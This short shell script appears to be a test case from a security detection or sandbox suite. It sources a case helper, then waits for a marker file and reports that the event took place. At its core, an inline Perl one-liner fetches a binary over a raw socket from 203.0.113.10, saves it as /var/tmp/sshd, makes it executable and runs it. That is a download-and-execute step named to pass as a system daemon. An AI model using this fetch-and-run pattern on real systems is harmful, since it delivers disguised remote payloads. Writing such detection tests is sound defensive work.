#!/bin/sh
. /opt/case/case.sh

perl -MIO::Socket::INET -e '
my $peer = IO::Socket::INET->new("203.0.113.10:8080") or die;
print $peer "GET /programs/marker HTTP/1.0\r\n\r\n";
local $/; (my $body = <$peer>) =~ s/^.*?\r\n\r\n//s;
open my $file, ">", "/var/tmp/sshd"; binmode $file; print $file $body; close $file;
chmod 0755, "/var/tmp/sshd"; system "/var/tmp/sshd";'
wait_for /tmp/reached
took_place
